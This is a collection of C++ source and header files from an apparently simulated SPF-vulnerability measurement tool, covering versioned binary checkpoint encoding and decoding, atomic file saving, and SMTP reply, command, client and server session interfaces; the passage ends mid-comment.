    case SnapshotKind::Study:
      return "study";
  }
  return "unknown";
}

std::string StudySnapshot::encode() const {
  Writer payload;
  payload.u64(rounds_done);
  payload.i64(clock_now);
  for (const std::uint64_t word : loss_rng) payload.u64(word);
  payload.u64(suites_issued);
  put_report(payload, initial);
  put_degradation(payload, degradation);
  payload.u64(remeasurable_resolved_vulnerable);
  payload.u64(remeasurable_resolved_compliant);
  payload.u64(remeasurable.size());
  for (const auto& [address, slot] : remeasurable) {
    put_address(payload, address);
    payload.u64(slot);
  }
  payload.u64(blacklisted.size());
  for (const auto& address : blacklisted) put_address(payload, address);
  payload.u64(patched.size());
  for (const auto& address : patched) put_address(payload, address);
  payload.u64(series.size());
  for (const auto& observations : series) {
    payload.u64(observations.size());
    for (const auto obs : observations) payload.u8(encode_enum(obs));
  }
  payload.u64(hosts.size());
  for (const auto& host : hosts) put_host_state(payload, host);
  payload.u64(trace.size());
  for (const auto& frame : trace) put_frame(payload, frame);
  if (has_metrics) {
    payload.u8(kMetricsMarker);
    metrics.encode(payload);
    payload.u64(metric_lines.size());
    for (const auto& line : metric_lines) payload.str(line);
  }
  if (has_strings) {
    payload.u8(kStringsMarker);
    strings.encode(payload);
  }
  if (workers > 0) {
    payload.u8(kWorkersMarker);
    payload.u32(workers);
  }

  Writer out;
  for (const char c : kMagic) out.u8(static_cast<std::uint8_t>(c));
  out.u32(kSnapshotVersion);
  out.u8(static_cast<std::uint8_t>(meta.kind));
  out.u64(meta.fleet_seed);
  out.f64(meta.scale);
  out.u64(meta.study_seed);
  out.u64(meta.fault_seed);
  out.f64(meta.fault_rate);
  out.boolean(meta.tracing);
  out.str(payload.bytes());
  out.u64(payload_checksum(payload.bytes()));
  return out.take();
}

StudySnapshot StudySnapshot::decode(std::string_view bytes) {
  Reader r(bytes);
  for (const char expected : kMagic) {
    if (r.u8() != static_cast<std::uint8_t>(expected)) {
      throw SnapshotError("bad magic (not a spfail snapshot)");
    }
  }
  const std::uint32_t version = r.u32();
  if (version != kSnapshotVersion) {
    throw SnapshotError("unsupported format version " +
                        std::to_string(version) + " (this build reads " +
                        std::to_string(kSnapshotVersion) + ")");
  }

  StudySnapshot snap;
  snap.meta.kind = decode_kind(r.u8());
  snap.meta.fleet_seed = r.u64();
  snap.meta.scale = r.f64();
  snap.meta.study_seed = r.u64();
  snap.meta.fault_seed = r.u64();
  snap.meta.fault_rate = r.f64();
  snap.meta.tracing = r.boolean();

  const std::string payload_bytes = r.str();
  const std::uint64_t checksum = r.u64();
  r.expect_done();
  if (checksum != payload_checksum(payload_bytes)) {
    throw SnapshotError("payload checksum mismatch (corrupt snapshot)");
  }

  Reader payload(payload_bytes);
  snap.rounds_done = payload.u64();
  snap.clock_now = payload.i64();
  for (auto& word : snap.loss_rng) word = payload.u64();
  snap.suites_issued = payload.u64();
  snap.initial = get_report(payload);
  snap.degradation = get_degradation(payload);
  snap.remeasurable_resolved_vulnerable = payload.u64();
  snap.remeasurable_resolved_compliant = payload.u64();
  const std::uint64_t remeasurable = payload.u64();
  for (std::uint64_t i = 0; i < remeasurable; ++i) {
    util::IpAddress address = get_address(payload);
    const std::uint64_t slot = payload.u64();
    snap.remeasurable.emplace_back(address, slot);
  }
  const std::uint64_t blacklisted = payload.u64();
  for (std::uint64_t i = 0; i < blacklisted; ++i) {
    snap.blacklisted.push_back(get_address(payload));
  }
  const std::uint64_t patched = payload.u64();
  for (std::uint64_t i = 0; i < patched; ++i) {
    snap.patched.push_back(get_address(payload));
  }
  const std::uint64_t series = payload.u64();
  for (std::uint64_t i = 0; i < series; ++i) {
    std::vector<longitudinal::Observation> observations;
    const std::uint64_t n = payload.u64();
    for (std::uint64_t j = 0; j < n; ++j) {
      observations.push_back(decode_observation(payload.u8()));
    }
    snap.series.push_back(std::move(observations));
  }
  const std::uint64_t hosts = payload.u64();
  for (std::uint64_t i = 0; i < hosts; ++i) {
    snap.hosts.push_back(get_host_state(payload));
  }
  const std::uint64_t frames = payload.u64();
  for (std::uint64_t i = 0; i < frames; ++i) {
    snap.trace.push_back(get_frame(payload));
  }
  // Optional trailing sections, in fixed order: metrics, strings, workers.
  // Each may be absent; anything else after the trace is a corrupt tail.
  if (!payload.done()) {
    std::uint8_t marker = payload.u8();
    bool consumed_marker = false;
    if (marker == kMetricsMarker) {
      snap.has_metrics = true;
      snap.metrics = obs::Registry::decode(payload);
      const std::uint64_t lines = payload.u64();
      for (std::uint64_t i = 0; i < lines; ++i) {
        snap.metric_lines.push_back(payload.str());
      }
      if (payload.done()) return snap;
      marker = payload.u8();
    }
    if (marker == kStringsMarker) {
      snap.has_strings = true;
      snap.strings = util::Interner::decode(payload);
      if (payload.done()) return snap;
      marker = payload.u8();
    }
    if (marker == kWorkersMarker) {
      snap.workers = payload.u32();
      consumed_marker = true;
    }
    if (!consumed_marker) {
      throw SnapshotError("trailing bytes are not an optional section");
    }
  }
  payload.expect_done();
  return snap;
}

void save_atomically(const std::string& path, std::string_view bytes) {
  const std::string tmp = path + ".tmp";
  {
    std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
    if (!out) {
      throw SnapshotError("cannot open '" + tmp + "' for writing");
    }
    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
    out.flush();
    if (!out) {
      throw SnapshotError("short write to '" + tmp + "'");
    }
  }
  if (std::rename(tmp.c_str(), path.c_str()) != 0) {
    std::remove(tmp.c_str());
    throw SnapshotError("cannot rename '" + tmp + "' over '" + path + "'");
  }
}

bool discard_partial(const std::string& path) {
  const std::string tmp = path + ".tmp";
  return std::remove(tmp.c_str()) == 0;
}

std::string load_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    throw SnapshotError("cannot open '" + path + "' for reading");
  }
  std::string bytes((std::istreambuf_iterator<char>(in)),
                    std::istreambuf_iterator<char>());
  if (in.bad()) {
    throw SnapshotError("read error on '" + path + "'");
  }
  return bytes;
}

}  // namespace spfail::snapshot
