#include "snapshot/fields.hpp"

#include <algorithm>
#include <array>
#include <set>
#include <string>
#include <utility>

#include "mta/host.hpp"
#include "snapshot/enums.hpp"

namespace spfail::snapshot {

namespace {

void put_name(Writer& w, const dns::Name& name) {
  w.str(name.empty() ? std::string_view{} : name.to_string());
}

dns::Name get_name(Reader& r) {
  const std::string text = r.str();
  return text.empty() ? dns::Name::root() : dns::Name::lenient(text);
}

void put_behaviors(Writer& w, const std::set<spfvuln::SpfBehavior>& behaviors) {
  w.u32(static_cast<std::uint32_t>(behaviors.size()));
  for (const auto b : behaviors) w.u8(encode_enum(b));
}

std::set<spfvuln::SpfBehavior> get_behaviors(Reader& r) {
  std::set<spfvuln::SpfBehavior> behaviors;
  const std::uint32_t n = r.u32();
  for (std::uint32_t i = 0; i < n; ++i) {
    behaviors.insert(decode_spf_behavior(r.u8()));
  }
  return behaviors;
}

}  // namespace

std::uint64_t payload_checksum(std::string_view bytes) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (const char c : bytes) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

void put_address(Writer& w, const util::IpAddress& address) {
  w.u8(encode_enum(address.family()));
  for (const std::uint8_t byte : address.bytes()) w.u8(byte);
}

util::IpAddress get_address(Reader& r) {
  const auto family = decode_family(r.u8());
  std::array<std::uint8_t, 16> bytes{};
  for (auto& byte : bytes) byte = r.u8();
  if (family == util::IpAddress::Family::V4) {
    return util::IpAddress::v4(bytes[0], bytes[1], bytes[2], bytes[3]);
  }
  return util::IpAddress::v6(bytes);
}

void put_probe_result(Writer& w, const scan::ProbeResult& result) {
  w.u8(encode_enum(result.kind));
  w.u8(encode_enum(result.status));
  put_address(w, result.target);
  put_name(w, result.mail_from_domain);
  put_behaviors(w, result.behaviors);
  w.boolean(result.saw_policy_fetch);
  w.i64(result.failing_code);
  w.str(result.accepted_username);
  w.u8(encode_enum(result.injected));
}

scan::ProbeResult get_probe_result(Reader& r) {
  scan::ProbeResult result;
  result.kind = decode_test_kind(r.u8());
  result.status = decode_probe_status(r.u8());
  result.target = get_address(r);
  result.mail_from_domain = get_name(r);
  result.behaviors = get_behaviors(r);
  result.saw_policy_fetch = r.boolean();
  result.failing_code = static_cast<int>(r.i64());
  result.accepted_username = r.str();
  result.injected = decode_fault_kind(r.u8());
  return result;
}

void put_outcome(Writer& w, const scan::AddressOutcome& outcome) {
  put_address(w, outcome.address);
  w.boolean(outcome.nomsg.has_value());
  if (outcome.nomsg) put_probe_result(w, *outcome.nomsg);
  w.boolean(outcome.blankmsg.has_value());
  if (outcome.blankmsg) put_probe_result(w, *outcome.blankmsg);
  w.u8(encode_enum(outcome.verdict));
  put_behaviors(w, outcome.behaviors);
  w.i64(outcome.probe_attempts);
  w.i64(outcome.retries_used);
  w.boolean(outcome.saw_transient);
}

scan::AddressOutcome get_outcome(Reader& r) {
  scan::AddressOutcome outcome;
  outcome.address = get_address(r);
  if (r.boolean()) outcome.nomsg = get_probe_result(r);
  if (r.boolean()) outcome.blankmsg = get_probe_result(r);
  outcome.verdict = decode_address_verdict(r.u8());
  outcome.behaviors = get_behaviors(r);
  outcome.probe_attempts = static_cast<int>(r.i64());
  outcome.retries_used = static_cast<int>(r.i64());
  outcome.saw_transient = r.boolean();
  return outcome;
}

void put_degradation(Writer& w, const faults::DegradationReport& deg) {
  w.f64(deg.configured_rate);
  w.u64(deg.probe_attempts);
  w.u64(deg.retries);
  w.u64(deg.injected_tempfail);
  w.u64(deg.injected_drop);
  w.u64(deg.injected_latency);
  w.u64(deg.injected_dns);
  w.i64(deg.latency_injected);
  w.u64(deg.transient_addresses);
  w.u64(deg.recovered);
  w.u64(deg.exhausted);
  w.u64(deg.breaker_trips);
  w.u64(deg.breaker_skipped);
  w.u64(deg.requeued);
  w.u64(deg.requeue_recovered);
  w.u64(deg.addresses_tested);
  w.u64(deg.conclusive);
}

faults::DegradationReport get_degradation(Reader& r) {
  faults::DegradationReport deg;
  deg.configured_rate = r.f64();
  deg.probe_attempts = r.u64();
  deg.retries = r.u64();
  deg.injected_tempfail = r.u64();
  deg.injected_drop = r.u64();
  deg.injected_latency = r.u64();
  deg.injected_dns = r.u64();
  deg.latency_injected = r.i64();
  deg.transient_addresses = r.u64();
  deg.recovered = r.u64();
  deg.exhausted = r.u64();
  deg.breaker_trips = r.u64();
  deg.breaker_skipped = r.u64();
  deg.requeued = r.u64();
  deg.requeue_recovered = r.u64();
  deg.addresses_tested = r.u64();
  deg.conclusive = r.u64();
  return deg;
}

void put_report(Writer& w, const scan::CampaignReport& report) {
  w.str(report.suite_label);
  // Canonical encoding: outcomes in ascending address order, not map order.
  const auto sorted = report.sorted_outcomes();
  w.u64(sorted.size());
  for (const auto* outcome : sorted) put_outcome(w, *outcome);
  w.u64(report.domains.size());
  for (const auto& domain : report.domains) {
    w.str(domain.domain);
    w.u64(domain.addresses.size());
    for (const auto& address : domain.addresses) put_address(w, address);
    w.boolean(domain.any_refused);
    w.boolean(domain.any_measured);
    w.boolean(domain.vulnerable);
    put_behaviors(w, domain.behaviors);
  }
  put_degradation(w, report.degradation);
}

scan::CampaignReport get_report(Reader& r) {
  scan::CampaignReport report;
  report.suite_label = r.str();
  const std::uint64_t outcomes = r.u64();
  for (std::uint64_t i = 0; i < outcomes; ++i) {
    scan::AddressOutcome outcome = get_outcome(r);
    const util::IpAddress address = outcome.address;
    report.addresses.emplace(address, std::move(outcome));
  }
  const std::uint64_t domains = r.u64();
  for (std::uint64_t i = 0; i < domains; ++i) {
    scan::DomainOutcome domain;
    domain.domain = r.str();
    const std::uint64_t addresses = r.u64();
    for (std::uint64_t j = 0; j < addresses; ++j) {
      domain.addresses.push_back(get_address(r));
    }
    domain.any_refused = r.boolean();
    domain.any_measured = r.boolean();
    domain.vulnerable = r.boolean();
    domain.behaviors = get_behaviors(r);
    report.domains.push_back(std::move(domain));
  }
  report.degradation = get_degradation(r);
  return report;
}

void put_frame(Writer& w, const net::Frame& frame) {
  w.i64(frame.time);
  w.u64(frame.lane);
  w.str(frame.src);
  w.str(frame.dst);
  w.u8(encode_enum(frame.direction));
  w.u8(encode_enum(frame.kind));
  w.str(frame.verb);
  w.i64(frame.code);
  w.str(frame.text);
  w.str(frame.qname);
  w.str(frame.qtype);
  w.str(frame.rcode);
  w.u64(frame.answers);
  w.boolean(frame.injected);
}

net::Frame get_frame(Reader& r) {
  net::Frame frame;
  frame.time = r.i64();
  frame.lane = r.u64();
  frame.src = r.str();
  frame.dst = r.str();
  frame.direction = decode_direction(r.u8());
  frame.kind = decode_frame_kind(r.u8());
  frame.verb = r.str();
  frame.code = static_cast<int>(r.i64());
  frame.text = r.str();
  frame.qname = r.str();
  frame.qtype = r.str();
  frame.rcode = r.str();
  frame.answers = r.u64();
  frame.injected = r.boolean();
  return frame;
}

void put_host_state(Writer& w, const StudySnapshot::HostState& host) {
  put_address(w, host.address);
  w.u64(host.greylist_seen.size());
  for (const auto& [client, first_try] : host.greylist_seen) {
    w.str(client);
    w.i64(first_try);
  }
  for (const std::uint64_t word : host.flaky_rng) w.u64(word);
}

StudySnapshot::HostState get_host_state(Reader& r) {
  StudySnapshot::HostState host;
  host.address = get_address(r);
  const std::uint64_t entries = r.u64();
  for (std::uint64_t j = 0; j < entries; ++j) {
    std::string client = r.str();
    const util::SimTime first_try = r.i64();
    host.greylist_seen.emplace_back(std::move(client), first_try);
  }
  for (auto& word : host.flaky_rng) word = r.u64();
  return host;
}

StudySnapshot::HostState capture_host_state(const util::IpAddress& address,
                                            const mta::MailHost& host) {
  StudySnapshot::HostState hs;
  hs.address = address;
  // The in-memory map keys addresses by value (DESIGN.md §14) but the wire
  // format keeps textual keys; re-sort after conversion, because numeric
  // address order is not lexical order ("11.0.0.2" > "11.0.0.10" as text)
  // and the snapshot bytes must match pre-§14 writers exactly.
  hs.greylist_seen.reserve(host.greylist_seen().size());
  for (const auto& [client, first_seen] : host.greylist_seen()) {
    hs.greylist_seen.emplace_back(client.to_string(), first_seen);
  }
  std::sort(hs.greylist_seen.begin(), hs.greylist_seen.end());
  hs.flaky_rng = host.flaky_rng_state();
  return hs;
}

}  // namespace spfail::snapshot
