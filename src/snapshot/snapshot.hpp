// Versioned binary checkpoints for campaigns and the longitudinal study
// (DESIGN.md §11).
//
// The paper's measurement is a four-month, ~180K-address longitudinal scan;
// any real deployment of such a run must survive process death. A
// StudySnapshot captures everything the study loop carries across a round
// boundary — the completed initial CampaignReport (per-address probe state,
// retry bookkeeping), degradation counters, the loss-process RNG cursor, the
// label-allocator suite cursor, per-address observation series, blacklist /
// patch flags, the re-measurable queue, the sim-clock position, and (when
// tracing) every wire frame recorded so far. Restoring it into a freshly
// built fleet of the same seed continues the run so that reports, JSONL
// traces, and degradation tables come out byte-identical to an uninterrupted
// run, at any thread count.
//
// Layout: magic, format version, meta block, then a u32-length-prefixed
// payload followed by its fnv1a-64 checksum. Decoding rejects a wrong magic,
// any version other than kSnapshotVersion (forward compatibility is refusal,
// not guessing), a checksum mismatch, truncation, trailing bytes, and any
// unmapped enum byte (snapshot/enums.hpp).
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <utility>
#include <vector>

#include "faults/degradation.hpp"
#include "longitudinal/inference.hpp"
#include "net/frame.hpp"
#include "obs/metrics.hpp"
#include "scan/campaign.hpp"
#include "snapshot/codec.hpp"
#include "util/clock.hpp"
#include "util/intern.hpp"
#include "util/ip.hpp"

namespace spfail::snapshot {

inline constexpr char kMagic[8] = {'S', 'P', 'F', 'S', 'N', 'A', 'P', '\0'};
inline constexpr std::uint32_t kSnapshotVersion = 1;

// What kind of run the snapshot continues.
enum class SnapshotKind : std::uint8_t {
  Campaign = 1,  // a completed initial-only measurement
  Study = 2,     // a longitudinal study at a round boundary
};

std::string to_string(SnapshotKind kind);

// The configuration fingerprint a snapshot was taken under. Restore verifies
// every field against the resuming process's configuration and refuses a
// mismatch — resuming under different seeds or rates would silently produce
// a run that matches neither the checkpointed nor a fresh experiment.
struct SnapshotMeta {
  SnapshotKind kind = SnapshotKind::Study;
  std::uint64_t fleet_seed = 0;
  double scale = 0.0;
  std::uint64_t study_seed = 0;
  std::uint64_t fault_seed = 0;
  double fault_rate = 0.0;
  bool tracing = false;

  friend bool operator==(const SnapshotMeta&, const SnapshotMeta&) = default;
};

// Everything the study loop carries across a round boundary. `rounds_done`
// counts completed longitudinal rounds: 0 means "initial measurement,
// notification campaign, and patch planning done; no longitudinal round
// run yet". A Campaign-kind snapshot uses only `meta`, `initial`, and
// `clock_now` (plus `trace` when tracing).
struct StudySnapshot {
  SnapshotMeta meta;

  std::uint64_t rounds_done = 0;
  util::SimTime clock_now = 0;
  std::array<std::uint64_t, 4> loss_rng{};  // mid-stream xoshiro position
  std::uint64_t suites_issued = 0;          // label-allocator replay cursor

  scan::CampaignReport initial;
  faults::DegradationReport degradation;  // study-wide merged counters

  std::uint64_t remeasurable_resolved_vulnerable = 0;
  std::uint64_t remeasurable_resolved_compliant = 0;

  // Surviving §6.1 re-measurable inconclusives with their stable label slots.
  std::vector<std::pair<util::IpAddress, std::uint64_t>> remeasurable;
  // Addresses whose hosts the loss process blacklisted / the patch plan
  // patched by this boundary (sorted; re-applied to the rebuilt fleet).
  std::vector<util::IpAddress> blacklisted;
  std::vector<util::IpAddress> patched;
  // Per vulnerable address — ascending address order, exactly the order
  // derived from `initial` — the observations of rounds [0, rounds_done).
  std::vector<std::vector<longitudinal::Observation>> series;

  // Scanner-visible mutable state of every host the continued run can still
  // probe (vulnerable plus surviving re-measurable addresses): the greylist
  // first-contact map and the flaky-path RNG cursor. Without these a rebuilt
  // host would greylist the resumed scanner as a stranger and replay its
  // flaky draws from the start.
  struct HostState {
    util::IpAddress address;
    std::vector<std::pair<std::string, util::SimTime>> greylist_seen;
    std::array<std::uint64_t, 4> flaky_rng{};
  };
  std::vector<HostState> hosts;

  // Wire frames recorded so far (present exactly when meta.tracing).
  std::vector<net::Frame> trace;

  // Deterministic metrics state (DESIGN.md §12; present exactly when the
  // run had metrics enabled): the merged master registry plus the per-round
  // JSONL snapshot lines already emitted, so a resumed run re-emits a
  // byte-identical metric stream. Encoded as an optional trailing payload
  // section behind a marker byte — a metrics-off snapshot's bytes are
  // unchanged from before the obs subsystem existed, keeping checkpoint
  // digests stable.
  bool has_metrics = false;
  obs::Registry metrics;
  std::vector<std::string> metric_lines;

  // Fleet intern table (DESIGN.md §14; present exactly when the writer ran
  // with --checkpoint-strings): the distinct domain/TLD/provider strings in
  // Symbol order. Restore compares it against the rebuilt fleet's table and
  // refuses a mismatch — a cheap whole-population fingerprint that catches a
  // seed or generator drift before replay silently diverges. Encoded as a
  // second optional marker section after the metrics section, so snapshots
  // without it are byte-identical to older writers.
  bool has_strings = false;
  util::Interner strings;

  // Worker-process count of the writing run (DESIGN.md §15). 0 means "single
  // process" (also every pre-dist snapshot); a --workers N run stamps N so
  // resume can refuse a worker-shard layout mismatch — per-worker recovery
  // checkpoints are keyed to the shard layout that wrote them. Encoded as a
  // third optional marker section after metrics and strings, so snapshots
  // from single-process runs keep their exact historical bytes.
  std::uint32_t workers = 0;

  std::string encode() const;
  static StudySnapshot decode(std::string_view bytes);
};

// Atomic write: the bytes go to `path` + ".tmp" and are renamed over `path`,
// so a crash mid-checkpoint leaves the previous snapshot intact. Throws
// SnapshotError on I/O failure.
void save_atomically(const std::string& path, std::string_view bytes);

// Remove the `path` + ".tmp" a writer killed mid-checkpoint left behind (the
// rename never happened, so the orphan is garbage and `path` itself — when
// present — is the last complete snapshot). Returns true when an orphan was
// actually removed.
bool discard_partial(const std::string& path);

// Whole-file read; throws SnapshotError when unreadable.
std::string load_file(const std::string& path);

}  // namespace spfail::snapshot
