// Binary encode/decode primitives for the checkpoint format (DESIGN.md §11).
//
// Little-endian, explicitly sized fields; strings and blobs are u32
// length-prefixed. The writer is append-only; the reader throws
// SnapshotError on truncation, trailing garbage, or any value that fails
// validation — a snapshot either decodes exactly or not at all, it is never
// silently patched up.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>

namespace spfail::snapshot {

// Every decode/validation failure in the snapshot layer surfaces as this.
class SnapshotError : public std::runtime_error {
 public:
  explicit SnapshotError(const std::string& what)
      : std::runtime_error("snapshot: " + what) {}
};

class Writer {
 public:
  void u8(std::uint8_t v) { bytes_.push_back(static_cast<char>(v)); }
  void u16(std::uint16_t v) { unsigned_le(v, 2); }
  void u32(std::uint32_t v) { unsigned_le(v, 4); }
  void u64(std::uint64_t v) { unsigned_le(v, 8); }
  void i64(std::int64_t v) { u64(static_cast<std::uint64_t>(v)); }
  void f64(double v);  // IEEE-754 bit pattern
  void boolean(bool v) { u8(v ? 1 : 0); }
  void str(std::string_view v);

  const std::string& bytes() const noexcept { return bytes_; }
  std::string take() { return std::move(bytes_); }

 private:
  void unsigned_le(std::uint64_t v, int width) {
    for (int i = 0; i < width; ++i) {
      bytes_.push_back(static_cast<char>(v & 0xFF));
      v >>= 8;
    }
  }

  std::string bytes_;
};

class Reader {
 public:
  explicit Reader(std::string_view bytes) : bytes_(bytes) {}

  std::uint8_t u8() { return static_cast<std::uint8_t>(unsigned_le(1)); }
  std::uint16_t u16() { return static_cast<std::uint16_t>(unsigned_le(2)); }
  std::uint32_t u32() { return static_cast<std::uint32_t>(unsigned_le(4)); }
  std::uint64_t u64() { return unsigned_le(8); }
  std::int64_t i64() { return static_cast<std::int64_t>(u64()); }
  double f64();
  bool boolean();
  std::string str();

  std::size_t remaining() const noexcept { return bytes_.size() - pos_; }
  bool done() const noexcept { return pos_ == bytes_.size(); }
  // Throws unless every byte was consumed.
  void expect_done() const;

 private:
  std::uint64_t unsigned_le(int width);

  std::string_view bytes_;
  std::size_t pos_ = 0;
};

}  // namespace spfail::snapshot
