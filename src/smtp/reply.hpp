// SMTP reply codes (RFC 5321 section 4.2).
#pragma once

#include <string>

namespace spfail::smtp {

struct Reply {
  int code = 0;
  std::string text;

  bool positive() const noexcept { return code >= 200 && code < 300; }
  bool intermediate() const noexcept { return code >= 300 && code < 400; }
  bool transient_failure() const noexcept { return code >= 400 && code < 500; }
  bool permanent_failure() const noexcept { return code >= 500 && code < 600; }

  std::string line() const { return std::to_string(code) + " " + text; }

  friend bool operator==(const Reply&, const Reply&) = default;
};

namespace replies {

inline Reply ready() { return {220, "mail.example ESMTP service ready"}; }
inline Reply ok() { return {250, "OK"}; }
inline Reply start_mail_input() {
  return {354, "Start mail input; end with <CRLF>.<CRLF>"};
}
inline Reply closing() { return {221, "Service closing transmission channel"}; }
inline Reply greylisted() {
  return {451, "Greylisted, please try again later"};
}
inline Reply dns_tempfail() {
  return {450, "4.4.3 Temporary DNS lookup failure, try again later"};
}
inline Reply service_unavailable() {
  return {421, "Service not available, closing transmission channel"};
}
inline Reply mailbox_unavailable() {
  return {550, "Requested action not taken: mailbox unavailable"};
}
inline Reply rejected_by_policy() {
  return {550, "Rejected by sender policy (SPF fail)"};
}
inline Reply bad_sequence() { return {503, "Bad sequence of commands"}; }
inline Reply syntax_error() { return {500, "Syntax error, command unrecognized"}; }
inline Reply parameter_error() {
  return {501, "Syntax error in parameters or arguments"};
}
inline Reply blacklisted() {
  return {554, "Transaction failed: sending host is blocked"};
}

}  // namespace replies
}  // namespace spfail::smtp
