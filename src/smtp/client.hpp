// SMTP client session driver.
//
// Drives a ServerSession through a complete mail transaction, recording the
// dialog as a transcript (every command and reply, in order). The scanner's
// Prober drives sessions directly for fine-grained control; this client is
// the general-purpose path used by examples, the notification sender, and
// tests that want a whole message delivered in one call.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "mail/message.hpp"
#include "smtp/server.hpp"

namespace spfail::smtp {

struct TranscriptLine {
  enum class Direction { ClientToServer, ServerToClient };
  Direction direction;
  std::string text;
};

struct DeliveryResult {
  bool accepted = false;   // message accepted for delivery (250 after ".")
  int final_code = 0;      // the reply code that decided the outcome
  std::string final_text;
  std::vector<TranscriptLine> transcript;

  // Render as "C: ..."/"S: ..." lines for logs and examples.
  std::string transcript_text() const;
};

class Client {
 public:
  explicit Client(std::string helo_identity)
      : helo_identity_(std::move(helo_identity)) {}

  // Run one full transaction: EHLO, MAIL FROM, RCPT TO (each recipient),
  // DATA, message content with dot-stuffing, QUIT. Stops at the first
  // non-recoverable rejection; `message` is rendered via mail::Message.
  DeliveryResult deliver(ServerSession& session, const std::string& mail_from,
                         const std::vector<std::string>& recipients,
                         const mail::Message& message);

 private:
  std::string helo_identity_;
};

}  // namespace spfail::smtp
