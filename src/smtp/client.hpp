// SMTP client session driver.
//
// Drives an SMTP dialog through a complete mail transaction over a
// net::SmtpChannel, recording the dialog as net::Frames (every command and
// reply, in order — the same frame type the scanner's wire traces use). The
// scanner's Prober drives channels directly for fine-grained control; this
// client is the general-purpose path used by examples, the notification
// sender, and tests that want a whole message delivered in one call.
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "faults/retry.hpp"
#include "mail/message.hpp"
#include "net/transport.hpp"
#include "smtp/server.hpp"
#include "util/clock.hpp"

namespace spfail::smtp {

struct DeliveryResult {
  bool accepted = false;   // message accepted for delivery (250 after ".")
  int final_code = 0;      // the reply code that decided the outcome
  std::string final_text;
  int attempts = 1;        // transactions driven (retries included)
  std::vector<net::Frame> transcript;  // wire frames of the final attempt

  // A 4xx outcome (or a failed connect, code 0): worth retrying.
  bool transient() const noexcept {
    return !accepted && final_code >= 0 && final_code < 500;
  }

  // Render as "C: ..."/"S: ..." lines for logs and examples.
  std::string transcript_text() const;
};

class Client {
 public:
  explicit Client(std::string helo_identity)
      : helo_identity_(std::move(helo_identity)) {}

  // Run one full transaction over `channel`: EHLO, MAIL FROM, RCPT TO (each
  // recipient), DATA, message content with dot-stuffing, QUIT. Stops at the
  // first non-recoverable rejection; `message` is rendered via
  // mail::Message. The transcript is captured through the channel's frame
  // mirror.
  DeliveryResult deliver(net::SmtpChannel& channel,
                         const std::string& mail_from,
                         const std::vector<std::string>& recipients,
                         const mail::Message& message);

  // Convenience overload: wrap `session` in a clockless transport (a plain
  // in-memory dialog — no simulated time passes, as before).
  DeliveryResult deliver(ServerSession& session, const std::string& mail_from,
                         const std::vector<std::string>& recipients,
                         const mail::Message& message);

  // Opens a fresh session per attempt (nullopt models a refused connect).
  using SessionFactory = std::function<std::optional<ServerSession>()>;

  // Deliver with the retry engine: transient outcomes (greylist 451, 450
  // tempfails, 421, refused connects) are re-attempted under `policy`, with
  // the backoff waits — keyed by the mail_from text, so schedules are
  // deterministic — charged to `clock`. Returns the last attempt's result
  // with `attempts` filled in.
  DeliveryResult deliver_with_retry(const SessionFactory& connect,
                                    const std::string& mail_from,
                                    const std::vector<std::string>& recipients,
                                    const mail::Message& message,
                                    const faults::RetryPolicy& policy,
                                    util::SimClock& clock);

 private:
  // The dialog itself, transcript-free (deliver() wraps it with the mirror).
  DeliveryResult run_dialog(net::SmtpChannel& channel,
                            const std::string& mail_from,
                            const std::vector<std::string>& recipients,
                            const mail::Message& message);

  std::string helo_identity_;
};

}  // namespace spfail::smtp
