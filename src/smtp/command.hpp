// SMTP command parsing (RFC 5321 section 4.1).
#pragma once

#include <optional>
#include <string>
#include <string_view>

namespace spfail::smtp {

enum class Verb {
  Helo,
  Ehlo,
  MailFrom,
  RcptTo,
  Data,
  Rset,
  Noop,
  Quit,
  Unknown,
};

struct Command {
  Verb verb = Verb::Unknown;
  // HELO/EHLO: the client identity. MAIL/RCPT: the address inside <>.
  std::string argument;
};

// Parse one command line (no trailing CRLF). Never throws; unparseable input
// comes back as Verb::Unknown so the server can reply 500.
Command parse_command(std::string_view line);

// Split "user@example.com" into local part and domain. Returns nullopt when
// there is no '@' or either side is empty — except the empty reverse-path
// "<>" (bounce sender), which the caller handles separately.
struct MailboxParts {
  std::string local;
  std::string domain;
};
std::optional<MailboxParts> split_mailbox(std::string_view address);

}  // namespace spfail::smtp
