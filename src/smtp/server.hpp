// SMTP server session finite-state machine (RFC 5321 section 4.1.4).
//
// The session owns protocol sequencing only; mail-acceptance decisions
// (recipient validation, SPF policy, greylisting) are delegated to a
// SessionHandler, which the mta module implements per simulated host.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "smtp/command.hpp"
#include "smtp/reply.hpp"
#include "util/ip.hpp"

namespace spfail::smtp {

struct Envelope {
  std::string sender_local;   // empty for the null reverse-path "<>"
  std::string sender_domain;  // empty for "<>"
  std::vector<std::string> recipients;
  std::string data;  // message content (may be empty — the BlankMsg probe)
};

// Decisions an MTA makes during a session. Handlers return the Reply to send.
class SessionHandler {
 public:
  virtual ~SessionHandler() = default;

  // After HELO/EHLO. Most servers accept unconditionally.
  virtual Reply on_hello(const std::string& client_identity,
                         const util::IpAddress& client) = 0;

  // After MAIL FROM. SPF-at-MAIL-time servers trigger validation here.
  virtual Reply on_mail_from(const std::string& sender_local,
                             const std::string& sender_domain,
                             const util::IpAddress& client) = 0;

  // After each RCPT TO.
  virtual Reply on_rcpt_to(const std::string& recipient,
                           const util::IpAddress& client) = 0;

  // After the end-of-data marker. SPF-after-DATA servers validate here.
  virtual Reply on_message(const Envelope& envelope,
                           const util::IpAddress& client) = 0;
};

class ServerSession {
 public:
  ServerSession(SessionHandler& handler, util::IpAddress client_address)
      : handler_(handler), client_(std::move(client_address)) {}

  // The 220 banner (or a rejection banner) the server opens with.
  Reply greeting() const { return replies::ready(); }

  // Feed one line from the client; returns the server's reply. In DATA mode,
  // lines are accumulated and an empty optional-like sentinel is modelled by
  // Reply{0,...} — callers should keep sending until the "." terminator.
  Reply respond(const std::string& line);

  // True once QUIT was processed (or the handler returned a 421).
  bool closed() const noexcept { return closed_; }

  // Model the peer (or the network) abruptly dropping the TCP connection:
